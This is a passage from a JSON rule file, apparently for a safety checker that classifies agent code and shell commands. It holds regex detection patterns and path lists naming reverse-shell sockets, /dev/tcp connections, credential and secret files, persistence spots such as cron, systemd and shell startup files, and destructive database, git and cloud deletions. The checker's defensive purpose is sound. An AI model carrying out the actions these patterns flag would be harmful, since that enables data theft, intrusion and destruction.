?|http2|net|node:\\\\w+|child_process)['\\"]|enableNetConnect|\\\\bif\\\\b))[\\\\s\\\\S]*\\\\bnew MockAgent\\\\(\\\\)[\\\\s\\\\S]*\\\\bdisableNetConnect\\\\(\\\\)[\\\\s\\\\S]*\\\\bsetGlobalDisp\
atcher\\\\(|^(?![\\\\s\\\\S]*(?:allow_net_connect|disable!|\\\\bif\\\\b|\\\\bunless\\\\b))[\\\\s\\\\S]*\\\\brequire [\\"']webmock(?:/(?:rspec|minitest)[\\"']|[\\"'][\\\\s\\\\S]*WebMock\\\\.\
enable!)[\\\\s\\\\S]*\\\\bstub_request\\\\b"],"dry-files":["^(?![\\\\s\\\\S]*\\\\b(?:FileUtils(?:\\\\.|::(?![DN])\\\\w)|include FileUtils(?!::)|(?:class|module)\\\\s|(?:File(?!\\\\.j\
oin)|Dir|Pathname)\\\\b))[\\\\s\\\\S]*\\\\binclude FileUtils::(?:DryRun|NoWrite)\\\\b"],"lists-processes":["^(?![\\\\s\\\\S]*\\\\b(?:if|select|grep|when|unless|filter)\\\\b[^\\\\n]\
*\\\\b(?:comm|cmdline|exe|status|environ|cwd)\\\\b)[\\\\s\\\\S]*[\\"']/proc(?:[\\"']|/(?:\\\\*|\\\\[|\\\\\\\\d))"],"sets-names":["\\\\b(?:globals|vars|locals|setattr|exec|eval|extr\
act|reload)\\\\s*\\\\(|\\\\bimport\\\\s+\\\\*"],"plain-switches":["^(?![\\\\s\\\\S]*(?:set_defaults|\\\\bdest\\\\s*=|\\\\bargv\\\\b|parse_(?:known_)?args\\\\([^)]|setattr|vars\\\\(|fromf\
ile))[\\\\s\\\\S]*\\\\bargparse\\\\b"],"reads-environment":["\\\\bprocess\\\\.env\\\\b|\\\\bos\\\\.environ|\\\\bgetenv\\\\b"],"reaches-around":["\\\\b(?:patch(?:\\\\.\\\\w+)?|setattr)\\\\([^\
\\\\n]*\\\\)\\\\s+if\\\\b|\\\\bnullcontext\\\\b|__wrapped__|\\\\[['\\"]\\\\w+['\\"]\\\\]\\\\(|mockImplementation\\\\(\\\\s*\\\\)|\\\\bPause\\\\b|\\\\b(?:globals|vars|locals|exec|eval|reload|__di\
ct__|__builtins__|sys\\\\.modules|import_module|__import__|_getframe|f_globals|gc\\\\.\\\\w+)\\\\b|\\\\b(?:temp_original|get_original|getOriginal|wrappedMethod|(?:require\
|import)Actual|importOriginal|require\\\\.cache|createRequire|getBuiltinModule|binding)\\\\b|\\\\bimport\\\\s*\\\\*|\\\\bimport\\\\(\\\\s*(?!['\\"\`][/.])|\\\\bReflect\\\\.|\\\\bObject\
\\\\.(?:assign|definePropert\\\\w+|setPrototypeOf)\\\\(\\\\s*[\\\\w.]+\\\\s*,|\\\\bsyncBuiltin\\\\w+|\\\\bWorker\\\\b|\\\\b(?:def|class|function)\\\\s+(?:patch|mock\\\\w*|\\\\w*Mock|Patche\
r|Stubber|responses|respx|sinon|jest|vi|nock|setupServer)\\\\b|\\\\.(?:patch|object|\\\\w*Mock|spyOn|stub|method|mock_aws|activate|listen|disableNetConnect)\\\\s*=[^=]|\
\\\\bpatch\\\\s*="],"process-tests":["\\\\b(?:name|cmdline|comm|exe)\\\\b"],"names-processes":["\\\\bif\\\\b[^\\\\n]*\\\\b(?:name|cmdline|cmd|exe|comm)\\\\b"],"several-connection\
s":["(?:(?:create_engine|newInstance|getConnection|createConnection|new PDO|new DataSource)\\\\s*\\\\([\\\\s\\\\S]*){2}"],"memory-broker":["^(?![\\\\s\\\\S]*(?:conf\\\\b|conf\
ig|#|\\\\bfrom\\\\s+(?!celery\\\\b)|\\\\bimport\\\\s+(?!Celery\\\\b)))[\\\\s\\\\S]*\\\\bCelery\\\\([^)\\\\n]*\\\\bbroker=['\\"]memory://['\\"]"],"connects":["connection|\\\\.{3}|Object\\\\.a\
ssign"],"installs-cron":["write_to_user|user\\\\s*="],"by-user":["\\\\busername\\\\b|\\\\buids?\\\\b|[\\"']\\\\w{0,2}[\\"']\\\\s+(?:not\\\\s+)?in\\\\b|\\\\b(?:includes|[sS]tarts_?[wW\
]ith|ends_?[wW]ith|find|search|match)\\\\(\\\\s*[\\"'/]\\\\w{0,2}[\\"'/]"],"own-settings":["^(?![\\\\s\\\\S]*(?:HOST|database=|using=))[\\\\s\\\\S]*\\\\bsettings\\\\.configure\\\\("]\
,"production":["\\\\bPROD(?:UCTION)?_\\\\w*(?:UR[LI]|DSN|DB)\\\\b|://[^'\\"\\\\s]*\\\\bprod(?:uction)?[.-]"],"socket-shell":["^(?=[\\\\s\\\\S]*(?:IO::Socket|\\\\bsocket\\\\s*\\\\())\
[\\\\s\\\\S]*\\\\bopen\\\\s*\\\\(?\\\\s*STDIN\\\\s*,\\\\s*[\\"']?[<>+]{0,2}&"],"repeats":["\\\\b(?:while|for|foreach|until|loop|redo|goto|times|each\\\\w*|upto|downto|step|cycle|map\
|select|reduce|def|sub|func\\\\w*|fn|eval|exec\\\\w*|lambda|class|trap|require|include|load|__FILE__|argv|ARGV)\\\\b|->\\\\s*\\\\{|=>\\\\s*\\\\{|\\\\*\\\\s*\\\\d|\\\\bx\\\\s*\\\\d|\\\\bfor\
k\\\\b(?:[\\\\s\\\\S]*?\\\\bfork\\\\b){3}"],"limits":["\\\\bwhere\\\\s*\\\\("],"writes":["\\\\.write|dump|print\\\\s*[{$]|print\\\\([^)\\\\n]*\\\\bfile\\\\s*=|[\\\\w)]\\\\.(?:print|puts)\\\\b|fp\
uts|fprintf|save|copy|pipe|send|<<|to_\\\\w+\\\\(|fwrite|Writer"],"secret-names":["['\\"](?:\\\\w*_)?(?:TOKEN|KEY|SECRET|PASSW\\\\w*|PASS)(?:_\\\\w*)?['\\"]|\\\\b(?:TOKEN|SEC\
RET|PASSWORD)\\\\|"],"encrypts":["\\\\.encrypt\\\\(|createCipher|\\\\bcrypt\\\\.|open\\\\((\\\\w+), *[\\"']w[\\"']\\\\)\\\\.write\\\\( *open\\\\(\\\\1\\\\)"],"rolled-back":["^\\\\s*(?:BEGIN(\
?: TRANSACTION| WORK)?|START TRANSACTION);(?:\\\\s*(?:SELECT|INSERT|UPDATE|DELETE|SAVEPOINT|EXPLAIN|WITH)\\\\s[^;\\\\\\\\]*;)*\\\\s*ROLLBACK;?\\\\s*$","i"],"keeps-real":["p\
ause|pass_?thr|add_real|real_http|resume|session\\\\s*=|skip_names|modules_to_|use_known|use_cache|deactivate"],"other-imports":["^\\\\s*(?:from|import) (?!boto|mot\
o|(?:os|sys|json|re|pytest|datetime)\\\\b)|^\\\\s*import [^\\\\n]*,\\\\s*(?!boto|moto|(?:os|sys|json|re)\\\\b)","m"],"several-clients":["(?:boto3\\\\.(?:client|resource)\\\\(\
[\\\\s\\\\S]*){2}"],"other-requests":["\\\\b(?:httpx|aiohttp|urllib\\\\d?|http\\\\.client|pycurl|socket)\\\\b"],"other-files":["^(?:import|from) (?:posix|nt|ctypes|_)","m"]\
,"besides-httpx":["\\\\b(?:requests|aiohttp|urllib\\\\d?|http\\\\.client|pycurl|socket)\\\\b|assert_all_mocked|\\\\busing\\\\b|rollback"],"besides-fetch":["passthrough|bypa\
ss|['\\"](?:node:)?(?:net|tls|dgram|http2)['\\"]|socket"],"besides-http":["enableNetConnect|restore|allowUnmocked|passthrough|\\\\bback\\\\b|recorder|NOCK_OFF|adapter\
|undici|superagent|http2|['\\"](?:node:)?net['\\"]|globalThis|socket|\\\\bky\\\\b|^(?![\\\\s\\\\S]*\\\\bfetch\\\\b[^\\\\n;]{0,20}['\\"]node-fetch['\\"])[\\\\s\\\\S]*\\\\bfetch\\\\s*\\\\("]\
},"shared":{"functions":{"chr":"characters $all","fromCharCode":"characters $all","fromCodePoint":"characters $all","bytes":"characters $0","bytearray":"charact\
ers $0","ord":"code-point $0","int":"integer $0 $1","str":"value $0","String":"value $0","strval":"value $0","iter":"value $0","scalar":"value $0","expanduser":\
"value $0","abspath":"value $0","realpath":"value $0","normpath":"value $0","fspath":"value $0","compile":"value $0","enter_context":"value $0","closing":"value\
 $0","list":"listed $0","sorted":"listed $0","tuple":"listed $0","set":"listed $0","frozenset":"listed $0","Set":"listed $0","Array.from":"listed $0","from":"li\
sted $0","b64decode":"fold base64 $0","urlsafe_b64decode":"fold base64 $0","decodebytes":"fold base64 $0","a2b_base64":"fold base64 $0","base64_decode":"fold ba\
se64 $0","decode_base64":"fold base64 $0","decode64":"fold base64 $0","strict_decode64":"fold base64 $0","urlsafe_decode64":"fold base64 $0","atob":"fold base64\
 $0","b32decode":"fold base32 $0","b85decode":"fold unread $0","a85decode":"fold unread $0","str_rot13":"fold unread $0","decompress":"fold unread $0","gzinflat\
e":"fold unread $0","gzuncompress":"fold unread $0","gzdecode":"fold unread $0","inflateSync":"fold unread $0","inflateRawSync":"fold unread $0","gunzipSync":"f\
old unread $0","b16decode":"fold hex $0","unhexlify":"fold hex $0","a2b_hex":"fold hex $0","fromhex":"fold hex $0","hex2bin":"fold hex $0","strrev":"fold revers\
e $0","reversed":"reverse $0","reverse":"reverse $0","strtolower":"fold lower $0","lc":"fold lower $0","strtoupper":"fold upper $0","uc":"fold upper $0","trim":\
"fold trim $0","unescape":"fold url $0","unquote":"fold url $0","urldecode":"fold url $0","rawurldecode":"fold url $0","decodeURIComponent":"fold url $0","decod\
eURI":"fold url $0","expandvars":"fold home $0","join":"join-texts $0 $1..","implode":"join-texts $0 $1..","sprintf":"format $0 $1..","map":"map $0 $1","array_m\
ap":"map $0 $1"},"methods":{"join":"join-texts $self $0","split":"if-text split $self $0","replace":"if-text if-args:2 replace $self $0 $1","replaceAll":"if-tex\
t replace $self $0 $1","gsub":"if-text replace $self $0 $1","lower":"if-text fold lower $self","downcase":"if-text fold lower $self","toLowerCase":"if-text fold\
 lower $self","upper":"if-text fold upper $self","upcase":"if-text fold upper $self","toUpperCase":"if-text fold upper $self","strip":"if-text fold trim $self",\
"chomp":"if-text fold trim $self","trim":"if-text fold trim $self","rstrip":"if-text fold trim-end $self","lstrip":"if-text fold trim-start $self","reverse":"re\
verse $self","decode":"decode $self $0","encode":"value $self","to_s":"value $self","to_str":"value $self","to_sym":"value $self","bytes":"value $self","bind":"\
value $self","chars":"if-text elements $self","concat":"concatenate $self $all","format":"if-text format $self $0..","clear":"if-lasting run sql delete-all rows\
","clearAsync":"if-lasting run sql delete-all rows","drop":"if-lasting run sql delete-all rows","dropAsync":"if-lasting run sql delete-all rows","erase":"if-las\
ting run sql delete-all rows","remove":"if-empty if-lasting run sql delete-all rows","removeAsync":"if-empty if-lasting run sql delete-all rows","openDB":"if-ma\
de:store value $self","open_db":"if-made:store value $self","sublevel":"if-made:store value $self","begin":"if-made:store value $self","pack":"pack $0 $self","u\
npack1":"if-text fold base64 $self","charCodeAt":"code-point $self $0","slice":"slice $self $0 $1","joinpath":"join $self $0..","hexdigest":"value","call":"invo\
ke $self $0..","apply":"invoke $self $1","send":"message $self $0 $1..","public_send":"message $self $0 $1..","__send__":"message $self $0 $1.."},"deeds":{"drop\
_database":"if-kept run sql drop-database $owner","dropdatabase":"if-kept run sql drop-database $owner","push":"if-git run git push $all","checkout":"if-git run\
 git checkout $all","update_ref":"if-git run git update-ref $all","filter_branch":"if-git run git filter-branch $all","branch":"if-git run git branch $all","sta\
sh":"if-git run git stash $all","raw":"if-git program git $all","reset":"if-says:^- run git reset $all","clean":"if-says:^- run git clean $all","drop_all":"if-k\
ept run sql drop-schema $owner","drop_table":"if-kept run sql drop-table $0","droptable":"if-kept run sql drop-table $0","drop_index":"value","drop_indexes":"va\
lue","dropindex":"value","dropindexes":"value","flushall":"if-stored run sql flush FLUSHALL","flush_all":"if-stored run sql flush FLUSHALL | if-name:broker run \
sql flush FLUSHALL","flushdb":"if-stored run sql flush FLUSHDB","delete_all":"if-name if-kept run sql delete-all $owner","destroy_all":"if-name if-kept run sql \
delete-all $owner","deleteall":"if-name if-kept run sql delete-all $owner","deletemany":"if-kept if-empty run sql delete-all $owner","delete_many":"if-kept if-e\
mpty run sql delete-all $owner","_raw_delete":"if-kept run sql delete-all $owner","drop_collection":"if-kept if-none run sql drop-collection $owner | if-kept ru\
n sql drop-collection $0","dropcollection":"if-kept if-none run sql drop-collection $owner | if-kept run sql drop-collection $0","query":"made rows","collection\
":"made rows","all":"if-none made rows","filter":"if-none made rows","exclude":"if-none made rows","begin_delete":"if-kept run cloud-sdk delete","begindelete":"\
if-kept run cloud-sdk delete","recursivedelete":"if-kept run cloud-sdk delete","obliterate":"if-kept run cloud-sdk delete","expunge":"if-none if-kept run cloud-\
sdk delete","purge":"if-name:control if-no-sign:memory-broker run celery purge","discard_all":"if-name:control if-no-sign:memory-broker run celery purge","drop"\
:"if-made:rows if-none run sql drop-collection rows","delete":"if-made:rows if-none run sql delete-all rows | if-none made pending-delete","forcedelete":"if-mad\
e:rows if-none run sql delete-all rows"}},"words":{"skipped":["if","elif","else","elsif","unless","while","until","do","try","except","catch","finally","begin",\
"rescue","ensure","then","end","and","or","in","case","when","switch","default","break","continue","pass","next","last","redo","raise","throw","export","public"\
,"private","protected","static","final","abstract","async","use","using","package"],"ending_signs":[";","{","}",")","]",",",":","=>"],"assigning":["=",":=","+="\
,".=","||=","??=","&&="],"constructors":["__init__","constructor","initialize","__construct"],"declaring":["const","let","var","my","our","local","await","stati\
c","async"],"standard":["assert","async_hooks","buffer","child_process","cluster","console","crypto","dgram","dns","events","fs","http","http2","https","module"\
,"net","os","path","perf_hooks","process","punycode","querystring","readline","stream","string_decoder","timers","tls","tty","url","util","v8","vm","worker_thre\
ads","zlib","bun","zx","abc","argparse","array","ast","asyncio","base64","binascii","bz2","calendar","cgi","cmath","codecs","collections","concurrent","configpa\
rser","contextlib","copy","csv","ctypes","dataclasses","datetime","decimal","difflib","email","enum","errno","fileinput","fnmatch","fractions","functools","gc",\
"getpass","glob","gzip","hashlib","heapq","hmac","html","importlib","inspect","io","ipaddress","itertools","json","keyword","locale","logging","lzma","math","mi\
metypes","multiprocessing","operator","pathlib","pickle","pkgutil","platform","plistlib","pprint","queue","random","re","sched","secrets","select","shelve","shl\
ex","shutil","signal","smtplib","socket","socketserver","sqlite3","ssl","stat","statistics","string","struct","subprocess","sys","sysconfig","tarfile","tempfile\
","textwrap","threading","time","timeit","traceback","types","typing","unittest","urllib","uuid","venv","warnings","weakref","webbrowser","xml","xmlrpc","zipfil\
e","zoneinfo","dotenv","jsonwebtoken","jose","jwt","bcrypt","bcryptjs","passlib","cryptography","pydantic","zod","yaml","lodash","pandas","numpy","express","fas\
tapi","flask","starlette","winston","pino","loguru","structlog","click","typer","jsdom","happy-dom","linkedom","cheerio","nock","msw","supertest","sinon","jest"\
,"vitest","pytest","responses","requests_mock","respx","pytest_httpx","vcr","betamax","moto"],"prefixing":["new","await","not","typeof","void","defined","yield"\
,"async","return","throw","clone"],"following":["if","unless","while","until","do","and","or","end","then","rescue","ensure","in","else","elsif","for","foreach"\
,"x","eq","ne","cmp","lt","gt","le","ge"],"opening":["do","def","class","module","begin","case"],"leading_opening":["if","unless","while","until","for"],"spawni\
ng":["spawn","fork","vfork","Popen","posix_spawn","pcntl_fork","proc_open","popen","execFile","Worker","Process","create_subprocess_exec","create_subprocess_she\
ll"],"shells":["system","exec","shell_exec","popen","execSync","os"],"waiting":["break","return","exit","wait","wait2","waitpid","waitpid2","wait4","join","comm\
unicate","sleep","usleep","await","throw","raise","die","last","readline","input","gets","recv","accept","get","poll","Queue"],"sql_kinds":["DATABASE","SCHEMA",\
"TABLE","VIEW","INDEX","USER","ROLE","FUNCTION","PROCEDURE","TRIGGER","SEQUENCE","TYPE","EXTENSION","KEYSPACE","TABLESPACE","COLUMN","CONSTRAINT","POLICY","OWNE\
D","COLLECTION","STREAM","BUCKET","MEASUREMENT","SERIES","PARTITION"],"sql_fillers":["IF","EXISTS","NOT","ONLY","CONCURRENTLY","CASCADE","LOW_PRIORITY","QUICK",\
"IGNORE"],"sql_leads":["AS","BEGIN","THEN","ANALYZE","ANALYSE","EXPLAIN","DO","DETACH","LOOP","ELSE"],"sql_reads":["LOAD_FILE","PG_READ_FILE","PG_READ_BINARY_FI\
LE","LO_IMPORT","READFILE","READ_TEXT","INFILE"],"sql_writes":["OUTFILE","DUMPFILE","WRITEFILE","LO_EXPORT"],"sql_code":["EXECUTE","EXEC","PREPARE","DO"],"befor\
e_value":["return","typeof","case","in","of","and","or","not","if","unless","split","grep","when"],"behind_calls":["while","until","if","unless","or","and","for\
","foreach"],"data_signs":["driver","database","key-store","in-memory","imitation","data-library"],"endpoints":["endpoint_url","endpoint","base_url","baseURL"],\
"sending_verbs":["POST","PUT","PATCH","DELETE"],"element_methods":["map","forEach","flatMap","filter","each","each_with_index","collect","select","find","to_h",\
"filter_map","reverse_each"],"folding_methods":["reduce","inject","each_with_object"],"selecting_methods":["filter","select","reject","sort","toSorted","find_al\
l","grep"],"selecting_functions":["filter","takewhile","dropwhile","tqdm"],"remote":["indices","indexes","tables","databases","collections","schemas","keyspaces\
","queues","topics","streams","buckets","exchanges","repos","repositories","projects","resourcegroups","volumes","instances","virtualmachines","droplets","serve\
rs","clusters","namespaces","organizations","customers","subscriptions","deployments","dnszones","zones","tenants","vaults","storageaccounts","webapps","dataset\
s","loadbalancers","backups","hostedzones","shards","replicas","partitions"],"remote_members":["indices","repos","repositories","buckets","resourcegroups","virt\
ualmachines","droplets","keyspaces","customers","dnszones","storageaccounts","webapps","loadbalancers","hostedzones","deployments","namespaces","databases","vol\
umes"],"deleting":["delete","rdelete","del","drop","destroy","purge","truncate","wipe","terminate","erase","nuke","obliterate","expunge","deregister","deletion"\
],"loosely_deleting":["remove","clear","empty","rmtree","removetree","rmdir","unlink","rm"],"passing":["label","labels","tag","tags","reaction","reactions","ass\
ignee","assignees","reviewer","reviewers","listener","listeners","handler","handlers","header","headers","interceptor","interceptors","cookie","cookies","cache"\
,"caches","timeout","interval","filter","filters","default","defaults","mock","mocks","queue_handler"],"deletion_fillers":["admin","schedule","key","all","if","\
exist","exists","async","sync","force","cascade","begin","batch","bulk","recursive","and","wait","now","by","id","command"],"imitating":["moto.mock_aws","respon\
ses.activate","respx.mock"],"mock_setters":["configure_mock","attach_mock","callsFake","returns","resolves","rejects","mockImplementation","mockReturnValue","mo\
ckResolvedValue","mockRejectedValue"],"mock_ends":["restore","restoreAll","restoreAllMocks","mockRestore","reset","resetAll","resetAllMocks","mockReset","stop",\
"stopall","undo","callThrough","callThroughWithNew","callsArg","mockImplementationOnce","__exit__","unmock","doUnmock","enableNetConnect","isolateModules","rese\
tModules","resetHandlers","deactivate"],"conditional":["if","elif","else","unless","for","while","try","except","case","and","or","assert","&&","||","??","?","?\
.","||=","??=","&&="],"exiting":["return","throw","raise","await"],"suspending":["await","yield"],"continuing":["else","catch","finally","while","instanceof","i\
n","of","as","from","do"],"changing":["global","nonlocal","for","as","case","del"],"setting":["=",":=","+=","??=","||="],"later":["lambda","def","function","ate\
xit","Timer","Thread","submit"],"ending":["endswith","endsWith"],"alternating":["||","!","?","??","^",":="],"prefix_signs":["+","-","!","~","*","**","...","&","\
\\\\","++","--","@","$"],"block_lists":["map","grep","sort","first","any","all"],"perl_declaring":["my","our","local"],"file_programs":["rm","rmdir","mv","cp","ln\
","chmod","chown","touch","mkdir"],"deleting_programs":["rm","truncate","shred"],"destructive_programs":["rm","rmdir","eval","truncate","mv","chmod","chown"]}},\
"paths":{"classes":{"root":"\`/\` itself, or everything in it.","system":"Folders of the operating system and their contents.","system-tree":"Such a folder itself\
, or one of its main parts: /etc/ssl, /usr/lib, /var/lib.","local-system":"Parts of the system for local additions: /usr/local, /opt, package sources.","home":"\
A home folder itself, or all of several.","personal":"Direct child of a home, or of a folder of personal files.","outside":"Deeper in a home, or anywhere else o\
utside the workspace.","workspace":"The workspace itself, everything in it, or a folder above it.","source":"Near the top of the workspace, and not produced by \
a build.","source-folder":"Of these, a folder by whose name projects keep what people wrote; others may be what the agent made itself.","inner":"Deeper in the w\
orkspace, and not produced by a build.","disposable":"Produced anew by a build, test or package manager.","temp":"Inside a folder for temporary files.","temp-ro\
ot":"Such a folder itself, or everything in it.","vcs":"Store of a version control system: \`.git\`.","vcs-config":"Hooks and configuration of version control.","\
credentials":"Secrets: keys, tokens, passwords.","credentials-by-name":"\\"credentials\\" in the name of source code or a text: protected from edit tools alone.",\
"handed-over":"Secrets in \`.env\` that the shell hands to programs: \`source .env\`.","from-template":"The same, as a copy of the template beside it.","accounts":"\
Users and permissions: passwd, sudoers, PAM.","account-secrets":"Of these, all but the list of names that every program reads: /etc/passwd.","authorized-keys":"\
Keys that may log in.","startup":"Read by shells, desktops and interpreters at start-up.","schedule":"Cron, timers, services.","device":"Disks.","kernel":"Switc\
hes and memory of the kernel.","socket":"Sockets that control a machine.","connection":"\`/dev/tcp/\\u2026\`: a connection to another machine.","local-connection":\
"The same to this machine, or to a container beside it.","nowhere":"\`/dev/null\`.","endless":"Devices without an end: \`/dev/zero\`.","data":"Dumps, backups, datab\
ases, lists of people.","logs":"Evidence kept by the system: logs, histories.","unknown":"Unknown before the command runs.","unknown-folder":"Everything in a fo\
lder whose name is unknown, and may be empty: all of the machine then."},"purposes":{"startup":{"form":"^(~/)?\\\\.(bashrc|bash_profile|bash_login|bash_logout|bas\
h_aliases|profile|zshrc|zshenv|zprofile)$|^(~/)?\\\\.(zlogin|zlogout|kshrc|cshrc|tcshrc|login|xprofile|xinitrc|xsession|xsessionrc|shrc)$|^(~/)?\\\\.(mkshrc|bash_en\
v|inputrc|pam_environment)$|^~/\\\\.config/(fish/|autostart(/|$)|environment\\\\.d(/|$)|nvim/init\\\\.|plasma-workspace/env)|^~/\\\\.(vimrc|emacs|pythonrc|pythonstartup\
|gdbinit|tmux\\\\.conf|ssh/rc|ssh/environment|ssh/config)|^~/\\\\.(oh-my-zsh/)|^~/\\\\.(local/lib/python[^/]*/site-packages/.*(\\\\.pth|sitecustomize\\\\.py|usercustomize\
\\\\.py))|^/etc/(profile(\\\\.d(/.*)?)?|bash\\\\.bashrc|bashrc|zsh(/.*|rc|env)|environment)$|^/etc/(ld\\\\.so\\\\.(preload|conf)(\\\\.d/.*)?|rc\\\\.local|xdg/autostart/.*|ske\
l/.*|fish/.*)$|^/etc/(update-motd\\\\.d/.*|inputrc)$|(^|/)(sitecustomize|usercustomize)\\\\.py$|/(site|dist)-packages/[^/]+\\\\.pth$","home":true},"schedule":{"form":\
"^/etc/(cron[^/]*(/.*)?|anacrontab|systemd/.*|init\\\\.d(/.*)?|rc\\\\d?\\\\.d(/.*)?|inittab|init/.*)$|^/var/spool/(cron|at)|^(/usr)?/lib/systemd/|^/run/systemd/|^~/\\\\\
.config/systemd(/|$)|^~?/library/launch(agents|daemons)(/|$)|^/library/launch|^~/\\\\.config/cron|^/usr/local/etc/rc\\\\.d/|^(/usr)?(/lib|/etc)/udev/rules\\\\.d/|^/et\
c/polkit-1/","home":true},"authorized-keys":{"form":"(^|/)\\\\.ssh/authorized_keys2?$|^/etc/ssh/(sshd_config|authorized_keys)"},"accounts":{"form":"^(/usr/local)?\
/etc/(passwd-?|master\\\\.passwd|shadow-?|gshadow-?|sudoers(\\\\.d(/.*)?)?|pam\\\\.d(/.*)?)$|^(/usr/local)?/etc/(security/.*|doas\\\\.conf|login\\\\.defs|subuid|subgid|pa\
ss\\\\S*[*?]\\\\S*)$"},"account-secrets":{"form":"^(/usr/local)?/etc/(?!passwd$)(passwd-?|master\\\\.passwd|shadow-?|gshadow-?|sudoers(\\\\.d(/.*)?)?)$|^(/usr/local)?/e\
tc/(?!passwd$)(pam\\\\.d(/.*)?|security/.*|doas\\\\.conf|login\\\\.defs|subuid|subgid)$|^(/usr/local)?/etc/(?!passwd$)(pass\\\\S*[*?]\\\\S*)$|^/usr/local/etc/passwd$"},"d\
evice":{"form":"^/dev/((sd|hd|vd|xvd)[a-z*?]+[\\\\d*?]*|nvme\\\\d.*|mmcblk.*|disk\\\\d?.*|rdisk.*|md\\\\d+|dm-\\\\d+|mapper/.*)$|^/dev/(loop\\\\d+|nbd\\\\d+|mem|kmem|port|dis\
k/.*|vg\\\\w*/.*)$"},"kernel":{"form":"^/(proc/(sys|sysrq-trigger|kcore|\\\\d+/mem|kmsg)|sys/|boot/)"},"socket":{"form":"(^|/)(docker|containerd|podman|crio)\\\\.sock\
$"},"vcs-config":{"form":"^(~/\\\\.gitconfig|~/\\\\.config/git/|/etc/gitconfig)"},"data":{"form":"(^|[-_./])(dumps?|backups?|customers?|users|clients|payroll|salar(\
y|ies)|patients?)([-_./]|$)|(^|[-_./])(employees|database|production[-_]?data|private|confidential|secrets?|prod)([-_./]|$)|\\\\.(sql|sql\\\\.gz|dump|sqlite3?|db|ba\
k|mdb|rdb|pst|mbox|kdbx)$"},"logs":{"form":"^/var/(log|audit)(/|$)|(^|/)\\\\.(bash|zsh|sh|python|mysql|psql|node_repl)_history$|^/run/log"}},"words":{"system_fold\
ers":["bin","boot","dev","etc","lib","lib32","lib64","libx32","opt","proc","root","run","sbin","srv","sys","usr","var","system","library","applications","snap",\
"nix","lost+found"],"root_folders":["boot","dev","etc","proc","root","sys","usr"],"personal_folders":["documents","desktop","pictures","downloads","music","vide\
os","movies","photos","library",".config",".local",".mozilla"],"credentials":[".netrc","_netrc",".npmrc",".pypirc",".pgpass",".my.cnf",".mylogin.cnf",".git-cred\
entials",".htpasswd",".dockercfg",".s3cfg",".boto",".vault-token",".envrc",".terraformrc",".yarnrc.token","kubeconfig","master.key","wallet.dat","login.keychain\
-db","key4.db","logins.json","shadow","gshadow","shadow-","gshadow-","environ","admin.conf","secring.gpg",".bash_history",".zsh_history",".python_history",".psq\
l_history",".mysql_history",".node_repl_history","tnsnames.ora",".secrets",".secret",".passwd-s3fs","rclone.conf",".credentials"],"disposable":["node_modules","\
bower_components","jspm_packages","dist","dist-ssr","build","builds","_build","out","output","outputs","target","bin","obj","coverage","htmlcov",".nyc_output","\
.next",".nuxt",".output",".svelte-kit",".turbo",".cache","cache","caches",".parcel-cache",".vite",".angular",".gradle",".venv","venv","env","virtualenv",".virtu\
alenv","__pycache__",".pytest_cache",".mypy_cache",".ruff_cache",".tox",".nox",".eggs",".hypothesis",".ipynb_checkpoints",".terraform",".serverless",".vercel","\
.netlify",".docusaurus",".eslintcache",".stylelintcache","storage/framework/views","storage/framework/cache",".coverage","coverage.xml","lcov.info","builddir","\
storybook-static","public/build","public/packs","vendor","vendor/bundle","tmp","temp",".tmp",".temp","logs","log","generated","gen",".generated","__generated__"\
,"artifacts","artifact","reports","report","test-results","test-reports","test-output","test_output","playwright-report","allure-results","allure-report","junit\
.xml","deps",".bundle","cmake-build-debug","cmake-build-release","cmakefiles","cmakecache.txt","debug","release",".stack-work","dist-newstyle",".dart_tool","der\
iveddata","pods",".build",".swiftpm","elm-stuff","zig-out","zig-cache","nimcache",".zig-cache","scratch",".scratch","_site",".jekyll-cache",".sass-cache","bench\
-results",".pnpm-store","package-lock.json","yarn.lock","pnpm-lock.yaml","poetry.lock",".ds_store","thumbs.db","nohup.out","a.out","lib-cov","typings","wheelhou\
se",".aws-sam","cdk.out",".elixir_ls",".lexical",".metals",".bloop",".bsp",".ccls-cache",".scannerwork",".snakemake",".cxx","bazel-out","bazel-bin","bazel-testl\
ogs",".astro",".externalnativebuild",".expo",".vuepress",".docusaurus",".vinxi",".nitro",".wxt",".yarn/cache",".rpt2_cache",".fusebox",".dynamodb",".nx","lerna-\
debug.log",".phpunit.result.cache",".phpunit.cache",".direnv","mlruns","wandb","lightning_logs","runs","checkpoints/tmp","snapshots","__snapshots__","__image_sn\
apshots__","screenshots"],"project_outputs":["resources/_gen","stage","pkgroot","appdir",".vs","xcuserdata",".libs",".firebase",".apt_generated","web_modules","\
vcpkg_installed","develop-eggs","bin-debug","bin-release","sdist","out-tsc","opencover","paket-files","meson-logs","nbbuild","nbdist","nimblecache","msbuild_log\
s","htmldocs","gwt-unitcache","codecoverage","cover_db","cython_debug","ipch","lib_managed","src_managed","project/boot","project/target","blib","build_isolated\
","devel_isolated","benchmarkdotnet.artifacts","test-report","tests_output","_yardoc","__pypackages__","__marimo__","__macosx",".yardoc",".virtual_documents",".\
pytype",".pyre",".pybuilder",".pub",".pdm-build",".mooncakes",".ng",".nb-gradle",".lein-plugins",".lake",".kitchen",".ionide",".htf",".godot",".import",".expo-s\
hared",".ensime_cache",".eask",".cpcache",".cdk.staging",".buildlog",".artifacts",".ansible",".ammonite",".rts2_cache_cjs",".rts2_cache_es",".rts2_cache_umd",".\
symlinks","blob-report","tfplan","tfplan.binary","tfplan.out","_autosummary","latex.out","slprj",".stryker-tmp",".swc",".wrangler",".sst",".open-next",".content\
layer",".lighthouseci",".jest-cache",".rollup.cache",".kotlin",".scala-build","intermediate","deriveddatacache","library/bee","library/scriptassemblies","librar\
y/packagecache","library/artifacts","library/shadercache","flutter/ephemeral"],"source_folders":["src","source","sources","lib","libs","app","apps","test","test\
s","spec","specs","__tests__","e2e","integration","doc","docs","documentation","packages","modules","module","components","pages","routes","server","client","cl\
ients","api","backend","frontend","web","www","site","core","internal","cmd","pkg","pkgs","script","scripts","config","configs","configuration","settings","publ\
ic","static","assets","images","img","media","data","dataset","datasets","db","database","databases","migrations","models","model","views","controllers","servic\
es","service","utils","util","helpers","common","shared","include","bin","tool","tools","examples","samples","templates","styles","css","resources","i18n","loca\
le","locales","fixtures","plugins","plugin","extensions","themes","infra","infrastructure","terraform","deploy","deployment","k8s","kubernetes","charts","helm",\
"ansible","docker","ci",".github",".gitlab",".circleci",".vscode",".idea",".husky","notebooks","crates","contracts","proto","protos","schema","schemas","android\
","ios","macos","windows","linux","functions","lambdas","middleware","hooks","stores","types","interfaces","main","java","kotlin","resources","benches","benchma\
